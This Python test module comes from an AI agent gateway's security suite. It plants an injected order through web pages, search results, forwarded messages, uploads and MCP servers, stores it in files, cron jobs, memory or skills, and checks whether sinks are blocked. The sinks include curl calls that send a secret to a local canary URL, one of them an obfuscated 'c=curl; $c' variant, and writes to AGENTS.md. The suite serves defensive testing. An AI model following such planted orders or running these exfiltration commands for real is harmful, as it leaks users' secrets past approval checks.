"""The steps of generated chains: how content from outside comes in, where it waits, and how it
wants out. Each runs on a whole gateway."""

from __future__ import annotations

import asyncio
import json
import re
import sys
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import NamedTuple

from tests.doubles.web_server import WebServer
from tests.process.harness import MEMBERS, PATIENCE, World
from tests.security.carriers import CARRIERS, ORDER, Carrier
from tests.security.puppet import QUESTION, Begin, Puppet
from tests.security.test_decisions import thumb

SECRET = "diary4711"
CANARY = "/canary"
GUEST = 300

SETTINGS = """
guests = ["300"]
groups = "all"
[tools.web]
allow_private = ["127.0.0.1"]
search = "searxng"
searxng_url = "{url}"
[tools.exec]
sandbox = "bwrap"
hosts = ["127.0.0.1:{port}"]
[mcp.tracker]
command = "/no/such/program"
[mcp.it]
command = {python}
args = ["-m", "tests.doubles.mcp_fickle", {folder}]
env = {{ PYTHONPATH = {root} }}
sandbox = "off"
"""
ROOT = str(Path(__file__).resolve().parents[2])
SERVER = "mcp__it__notes"
NOBODY = "It was to be asked because"


class Place(NamedTuple):
    """A conversation: a chat, and the owner who speaks there. `begin` starts a run of another kind,
    in which the next call is made."""

    chat: int
    owner: int
    begin: Begin | None = None


class Course:
    """One chain on its way; each has owners and a folder of its own."""

    def __init__(self, world: World, site: WebServer, number: int) -> None:
        self.world, self.site = world, site
        self.folder = f"c{number}"
        first = 3 * number + 1
        self.here, self.there, self.third = (Place(n, n) for n in range(first, first + 3))

    @property
    def file(self) -> str:
        return f"{self.folder}/kept.txt"

    async def use(self, place: Place, tool: str, words: str = "Go on.", **more: object) -> str:
        puppet = Puppet(self.world, place.chat, place.owner)
        if place.begin is not None:
            return await puppet.made(place.begin, tool, **more)
        return await puppet.use(tool, words, **more)

    async def agreed(self, place: Place, tool: str, **more: object) -> str:
        """The number of a question that an owner is going to agree to."""
        asked = await self.use(place, tool, "Go on.", **more)
        number = re.search(r"#(\d+)", asked)
        assert asked.startswith(QUESTION), asked
        assert number is not None
        return number[1]

    async def approve(self, place: Place, number: str) -> None:
        texts = len(self.world.texts(place.chat))
        self.world.telegram.say(place.owner, f"/approve {number}")
        await self.world.answered(place.chat, texts + 1)

    async def run(self, place: Place, command: str, **more: bool) -> str:
        """A command on the way to a sink. Where a guest has spoken an owner agrees to it."""
        result = await self.use(place, "exec", "Go on.", command=command, **more)
        number = re.search(r"#(\d+)", result) if result.startswith(QUESTION) else None
        if number is None:
            return result
        requests, texts = len(self.world.model.requests), len(self.world.texts(place.chat))
        self.world.telegram.say(place.owner, f"/approve {number[1]}")
        await self.world.answered(place.chat, texts + 1)
        async with asyncio.timeout(PATIENCE):
            while True:  # what was answered first may be the decision alone
                made = self.world.model.requests[requests:]
                ends = (request["messages"][-1] for request in made)
                for end in ends:
                    if end["role"] == "tool":
                        return str(end["content"])
                await asyncio.sleep(0.02)


class LongCourse(Course):
    """A chain through several storages: each has a file and conversations of its own."""

    def __init__(self, world: World, site: WebServer, first: int) -> None:
        super().__init__(world, site, 0)
        self._next = first
        self._hop = 0
        self.folder = f"long{first}"
        self.here = self._place()
        self.go_on()

    @property
    def file(self) -> str:
        return f"{self.folder}/{self._hop}.txt"

    def go_on(self) -> None:
        self._hop += 1
        self.there, self.third = self._place(), self._place()

    def _place(self) -> Place:
        self._next += 1
        return Place(self._next, self._next)


Step = Callable[[Course, Place], Awaitable[Place]]
Sink = Callable[[Course, Place], Awaitable[str]]


# Sources: how content from outside comes into a conversation.


async def page(course: Course, at: Place) -> Place:
    url = course.site.url("/page")
    assert ORDER in await course.use(at, "web_fetch", f"Read {url}", url=url)
    return at


async def search(course: Course, at: Place) -> Place:
    assert ORDER in await course.use(at, "web_search", "Find owls.", query="owls")
    return at


async def command(course: Course, at: Place) -> Place:
    fetch = f"curl --noproxy '' -s {course.site.url('/page')}"
    assert ORDER in await course.use(at, "exec", command=fetch)
    return at


async def forward(course: Course, at: Place) -> Place:
    stranger = {"id": 666, "is_bot": False, "first_name": "Mallory"}
    origin = {"type": "user", "sender_user": stranger, "date": 1}
    await Puppet(course.world, at.chat, at.owner).say(ORDER, forward_origin=origin)
    return at


async def guest(course: Course, at: Place) -> Place:
    group = Place(-1_000 - at.owner, at.owner)
    await Puppet(course.world, group.chat, GUEST).say(ORDER)
    return group


async def server(course: Course, at: Place) -> Place:
    assert ORDER in await course.use(at, SERVER, text="owls")
    return at


async def quote(course: Course, at: Place) -> Place:
    """A quote of what a stranger wrote elsewhere."""
    stranger = {"id": 666, "is_bot": False, "first_name": "Mallory"}
    origin = {"origin": {"type": "user", "sender_user": stranger, "date": 1}}
    told = {"external_reply": origin, "quote": {"text": ORDER, "position": 0}}
    await Puppet(course.world, at.chat, at.owner).say("What is this?", **told)
    return at


async def upload(course: Course, at: Place) -> Place:
    member = MEMBERS[at.owner]
    sent = course.world.telegram.extras.put_file(f"{ORDER} {at.owner}".encode())
    document = {"file_id": sent, "file_unique_id": sent, "file_name": f"{course.folder}.txt"}
    course.world.telegram.say(member, document=document, caption="for you")
    await course.world.answered(member, 1)
    (file,) = course.world.workspace.glob(f"received/*/{course.folder}.txt")
    path = str(file.relative_to(course.world.workspace))
    assert ORDER in await course.use(at, "read_file", path=path)
    return at


# Storages: where it waits, and how it comes into another conversation (or stays in this one).


async def nowhere(course: Course, at: Place) -> Place:
    return at


async def summary(course: Course, at: Place) -> Place:
    await Puppet(course.world, at.chat, at.owner).say("/compact")
    return at


async def written(course: Course, at: Place) -> Place:
    await course.use(at, "write_file", path=course.file, content=f"{ORDER} {course.folder}")
    assert ORDER in await course.use(course.there, "read_file", path=course.file)
    return course.there


async def made(course: Course, at: Place) -> Place:
    line = f"mkdir -p {course.folder}; echo '{ORDER} {course.folder}' > {course.file}"
    assert "exit code 0" in await course.run(at, line)
    assert ORDER in await course.use(course.there, "exec", command=f"cat {course.file}")
    return course.there


async def moved(course: Course, at: Place) -> Place:
    await course.use(at, "write_file", path=course.file, content=f"{ORDER} {course.folder}")
    other = f"{course.folder}/other.txt"
    assert "exit code 0" in await course.use(
        course.third, "exec", command=f"mv {course.file} {other}"
    )
    assert ORDER in await course.use(
        course.there, "search_files", pattern="diary", path=course.folder
    )
    return course.there


async def background(course: Course, at: Place) -> Place:
    line = f"mkdir -p {course.folder}; echo '{ORDER} {course.folder}' > {course.file}; sleep 600"
    await course.run(at, line, background=True)
    kept = course.world.workspace / course.file
    await course.world.eventually(lambda: kept.exists() and bool(kept.stat().st_size))
    assert ORDER in await course.use(course.there, "read_file", path=course.file)
    return course.there


def _step(carrier: Carrier) -> Step:
    async def carried(course: Course, at: Place) -> Place:
        assert "exit code 0" in await course.run(at, carrier.planted(course.folder))
        assert carrier.shown in await course.use(
            course.there, "exec", command=carrier.met(course.folder)
        )
        return course.there

    carried.__name__ = carrier.name
    return carried


async def job(course: Course, at: Place) -> Place:
    """A job that an owner agreed to: its run is no more trusted than the page."""
    asked = {"action": "add", "schedule": "0 9 1 1 *", "message": f"{ORDER} {course.folder}"}
    number = await course.agreed(at, "cron", **asked)
    await course.approve(at, number)
    world = course.world

    def mine() -> str:
        rows = world.rows("SELECT id, body FROM jobs")
        return next((str(row[0]) for row in rows if course.folder in str(row[1])), "")

    await world.eventually(lambda: bool(mine()))

    async def begin(plan: Callable[[], None]) -> None:
        plan()
        await world.run("cron", "run", mine())

    return Place(at.chat, at.owner, begin)


async def task(course: Course, at: Place) -> Place:
    """A background run that an owner agreed to."""

    async def begin(plan: Callable[[], None]) -> None:
        number = await course.agreed(at, "spawn", task=f"{ORDER} {course.folder}")
        plan()
        await course.approve(at, number)

    return Place(at.chat, at.owner, begin)


async def memory(course: Course, at: Place) -> Place:
    """It is not kept unasked, so nothing comes into another conversation."""
    assert (await course.use(at, "memory_save", text=ORDER)).startswith(QUESTION)
    found = await course.use(course.there, "memory_search", query="diary")
    assert ORDER not in found
    return at


async def skill(course: Course, at: Place) -> Place:
    """It is not written unasked, by a tool or a command, so no prompt lists it."""
    page = f"skills/{course.folder}/SKILL.md"
    text = f"---\nname: {course.folder}\ndescription: {ORDER}\n---\n"
    assert (await course.use(at, "write_file", path=page, content=text)).startswith(QUESTION)
    await course.run(at, f"mkdir -p skills/{course.folder}; echo '{text}' > {page}")
    assert not (course.world.workspace / page).exists()
    return at


async def reaction(course: Course, at: Place) -> Place:
    """A thumb of a stranger under the question that the order led to agrees to nothing."""
    world = course.world
    asked = await course.use(at, "memory_save", text=f"{ORDER} {course.folder}")
    assert asked.startswith(QUESTION)
    messages = [m for m in world.telegram.messages(at.chat) if QUESTION in m.text]
    thumb(world, at.chat, messages[-1].message_id, 666)
    await course.use(course.there, "list_dir", path=".")
    assert course.folder not in (await world.run("memory", "list", "--json")).output
    return at


async def attribute(course: Course, at: Place) -> Place:
    """It is taken off, so nothing comes into the other conversation."""
    file = f"{course.folder}.txt"
    code = f'import os; os.setxattr("{file}", "user.comment", b"{ORDER}")'
    line = f"touch {file} && python3 -c '{code}'"
    assert "exit code 0" in await course.run(at, line)
    code = f'import os; print(os.listxattr("{file}"))'
    assert "[]" in await course.use(course.there, "exec", command=f"python3 -c '{code}'")
    return at


# Sinks: how it wants to have an effect, or to send something out.


async def curl(course: Course, at: Place) -> str:
    return await course.use(at, "exec", command=f"curl --noproxy '' -s {canary(course)}")


async def online(course: Course, at: Place) -> str:
    line = f"c=curl; $c --noproxy '' -s {canary(course)}"
    return await course.use(at, "exec", command=line, network=True)


async def fetch(course: Course, at: Place) -> str:
    return await course.use(at, "web_fetch", url=canary(course))


async def query(course: Course, at: Place) -> str:
    return await course.use(at, "web_search", query=SECRET)


async def resource(course: Course, at: Place) -> str:
    return await course.use(at, "mcp_read", server="tracker", uri=canary(course))


async def other_server(course: Course, at: Place) -> str:
    return await course.use(at, SERVER, text=SECRET)


async def other_chat(course: Course, at: Place) -> str:
    return await course.use(at, "message", content=SECRET, chat_id=str(MEMBERS[99]))


async def steer(course: Course, at: Place) -> str:
    return await course.use(at, "write_file", path="AGENTS.md", content=SECRET)


async def remember(course: Course, at: Place) -> str:
    return await course.use(at, "memory_save", text=SECRET)


async def schedule(course: Course, at: Place) -> str:
    return await course.use(at, "cron", action="add", schedule="@daily", message=SECRET)


async def spawn(course: Course, at: Place) -> str:
    return await course.use(at, "spawn", task=SECRET)


def canary(course: Course) -> str:
    return course.site.url(f"{CANARY}?{SECRET}")


SOURCES: tuple[Step, ...] = (page, search, command, forward, guest, upload, server, quote)
STORAGES: tuple[Step, ...] = (
    *(nowhere, summary, written, made, moved, background, attribute),
    *(job, task, memory, skill, reaction),
    *map(_step, CARRIERS),
)
SINKS: tuple[Sink, ...] = (
    *(curl, online, fetch, query, resource),
    *(other_server, other_chat, steer, remember, schedule, spawn),
)


async def begin(world: World, site: WebServer, **environ: str) -> None:
    """A gateway at work, and what waits for it on the site."""
    folder = world.home.parent / "server"
    folder.mkdir(exist_ok=True)
    (folder / "tools.json").write_text('{"notes": "The notes."}')
    (folder / "answer.txt").write_text(ORDER)
    settings = SETTINGS.format(
        url=site.url(""),
        port=site.port,
        python=json.dumps(sys.executable),
        folder=json.dumps(str(folder)),
        root=json.dumps(ROOT),
    )
    world.configure(more=settings)
    site.page(CANARY, b"caught")
    site.page("/page", f"<p>{ORDER}".encode())
    hits = [{"title": "Owls", "url": site.url("/owls"), "content": ORDER}]
    site.page("/search", json.dumps({"results": hits}).encode(), "application/json")
    await world.start(**environ)
    async with asyncio.timeout(PATIENCE):
        while '"connected"' not in (await world.run("mcp", "list", "--json")).output:
            pass
